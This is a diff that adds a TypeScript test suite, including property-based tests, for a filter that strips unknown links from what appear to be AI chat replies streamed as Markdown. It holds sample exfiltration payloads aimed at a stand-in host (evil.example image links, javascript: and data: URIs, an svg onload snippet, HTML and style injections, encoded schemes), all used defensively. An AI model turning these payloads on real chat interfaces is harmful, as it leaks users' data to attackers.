@@ -1,0 +1,154 @@
+import { expect } from 'chai';
+import fc from 'fast-check';
+import { marked } from 'marked';
+import { addressesIn, createAddressRewriter, withoutAddresses } from '#src/domain/reply-addresses.ts';
+
+const known = 'https://bank.example/rates?year=2026';
+
+function rewrite(...pieces: string[]): string {
+  const rewriter = createAddressRewriter(new Set([known]));
+  return pieces.map(rewriter.add).join('') + rewriter.end();
+}
+
+describe('addresses in a reply', () => {
+  for (const [what, said, shown] of [
+    ['an image', 'See ![a chart](https://evil.example/?d=key).', 'See ! [a chart] (link removed).'],
+    ['an image of a known address', `![chart](${known})`, `! [chart](${known})`],
+    ['a link', '[Terms](https://evil.example/key) apply', '[Terms] (link removed) apply'],
+    ['a link in angle brackets', '[Terms](<https://evil.example/key> "now")', '[Terms] (link removed)'],
+    ['a link with brackets in it', '[a](https://evil.example/b_(c))!', '[a] (link removed)!'],
+    ['a known link', `[Rates](${known} "of 2026") apply`, `[Rates](${known} "of 2026") apply`],
+    ['a known link with more behind it', `[Rates](${known}&d=key)`, '[Rates] (link removed)'],
+    ['a reference', '![a][b]\n\n[b]: https://evil.example/key', '! [a][b]\n\n[b] : (link removed)'],
+    ['an address alone', 'Go to https://evil.example/?d=key, now.', 'Go to (link removed), now.'],
+    ['an address without its scheme', 'Go to www.evil.example/key or ww.', 'Go to (link removed) or ww.'],
+    ['an unusual scheme', 'Open ms-word:ofu|u|x://evil.example', 'Open ms-word:ofu|u|x (link removed)'],
+    ['an escaped address', String.raw`https:\/\/evil.example/key`, '(link removed)'],
+    ['a mail', 'mailto:eve@evil.example?body=key', '(link removed)'],
+    ['known ones', `(${known}) **${known}**, ${known}.`, `(${known}) **${known}**, ${known}.`],
+    ['a known one as its own text', `[${known}](${known})`, `[${known}](${known})`],
+    ['a known one before a marker', `${known}[1]`, `${known} [1]`],
+    ['an autolink', '<https://evil.example/key>', '< https://evil.example/key>'.replace(/https.*y/, '(link removed)')],
+    ['HTML', '<img src=//evil.example/key>', '< img src=//evil.example/key>'],
+    ['style', '<p style="background:url(https://evil.example/k)">', '< p style="background:url((link removed)>'],
+    ['a script as an address', '[a](javascript:alert(1))', '[a] (link removed)'],
+    ['data as an address', '![a](data:image/svg+xml,<svg/onload=x>)', '! [a] (data:image/svg+xml,< svg/onload=x>)'],
+    ['entities', '&#104;ttps&colon;//evil.example', '& #104;ttps& colon;//evil.example'],
+    ['a text that is split by a line', '[a\n](https://evil.example/k)', '[a\n] (link removed)'],
+  ] as const) {
+    it(`are neutral: ${what}`, () => expect(rewrite(said)).equal(shown));
+  }
+
+  for (const text of [
+    'Plain text, with [1], [2, 3]. And a < b, c <= d & e; "f": {g} (h) [i] - 10:30!',
+    'According to [1]: the rate is low.',
+    '```html\n<img src="https://api.example/x">\n![a](https://api.example)\n```\nend',
+    '~~~\nhttps://api.example\n```\n~~~~\nend',
+  ]) {
+    it(`leave alone: ${JSON.stringify(text.slice(0, 30))}`, () => expect(rewrite(text)).equal(text));
+  }
+
+  it('are neutral behind a fence of which readers differ', () => {
+    const image = '![a](https://evil.example/k)';
+    for (const before of [' ```\n```\n', '- ```\n```\n', '$$\n```\n$$\n', '``` a`b\n', '> ```\n\n```\n']) {
+      expect(rewrite(before + image), before).not.include('evil.example');
+    }
+    expect(rewrite(`\`\`\`\ncode\n\`\`\`\n${image}`)).not.include('evil.example');
+  });
+
+  it('hold nothing back but what may become one', () => {
+    const rewriter = createAddressRewriter(new Set([known]));
+    const pieces = ['The ra', 'te is h', 'igh: ', 'http', 's://evil.example', '/key', ' and', ' [a]', '(x', ' y'];
+    expect(pieces.map(rewriter.add)).deep.equal([
+      'The ra',
+      'te is ',
+      'high: ',
+      '',
+      '',
+      '',
+      '(link removed) and',
+      ' [a',
+      '',
+      '] (x y',
+    ]);
+    expect(rewriter.end()).equal('');
+    expect(rewriter.removedCount()).equal(1);
+  });
+
+  it('are found in texts as they can be said again', () => {
+    expect(addressesIn(`See (${known}), www.bank.example. Mail mailto:a@b.example!`)).deep.equal([
+      known,
+      'www.bank.example',
+      'mailto:a@b.example',
+    ]);
+    expect(withoutAddresses('Loans at [us](https://evil.example) https://evil.example/a now')).equal(
+      'Loans at [us]   now',
+    );
+  });
+});
+
+describe('addresses in any reply', () => {
+  const part = fc.constantFrom(
+    ...[
+      'https://evil.example/',
+      known,
+      'www.evil.example',
+      'mailto:',
+      'h',
+      'http',
+      's:',
+      '//',
+      '&#104;ttps://x.example',
+    ],
+    ...['![', '!', '[', ']', '](', '(', ')', ']:', ':', '<', '>', '<img src=', '<!--', '-->', '"', "'", '\\', '&', '|'],
+    ...['```', '~~~', '`', '$$', '    ', '- ', '> ', '1. ', '# ', '\n', '\n\n', '\r', '\t', ' ', 'a', '1', '[1]', '😀'],
+  );
+  const parts = fc.array(part, { maxLength: 30 });
+
+  it('are the same however the text is cut', () => {
+    fc.assert(
+      fc.property(parts, fc.array(fc.nat({ max: 20 })), (text, cuts) => {
+        const whole = text.join('');
+        const pieces: string[] = [];
+        let rest = whole;
+        for (const cut of cuts) {
+          pieces.push(rest.slice(0, cut));
+          rest = rest.slice(cut);
+        }
+        const expected = rewrite(whole);
+        expect(rewrite(...pieces, rest)).equal(expected);
+        expect(rewrite(...whole.split(''))).equal(expected);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  it('are fetched by no reader of Markdown, and lead to known places only', () => {
+    fc.assert(
+      fc.property(parts, (text) => {
+        const html = marked.parse(rewrite(text.join('')), { async: false, gfm: true });
+        const shown = html.replaceAll(/<(?:pre|code)[\s\S]*?<\/(?:pre|code)>/g, '');
+        expect(shown).not.match(/<img|<!--/);
+        const links = Array.from(shown.matchAll(/href="([^"]*)"/g), ([, href = '']) => decodeURI(href));
+        // Some readers take the signs that close a sentence along; they say nothing.
+        const elsewhere = links.map((href) => href.replace(/(?:[^\w]|&#?\w+;)+$/, '')).filter((href) => href !== known);
+        expect(elsewhere).deep.equal([]);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  it('leave a text without any as it is', () => {
+    const plain = fc.array(
+      fc.oneof(
+        fc.string().map((text) => text.replaceAll(/[!<:&\]`~$w/]/g, '')),
+        fc.constantFrom('\n', ' '),
+      ),
+    );
+    fc.assert(
+      fc.property(plain, (text) => {
+        expect(rewrite(...text)).equal(text.join(''));
+      }),
+    );
+  });
+});
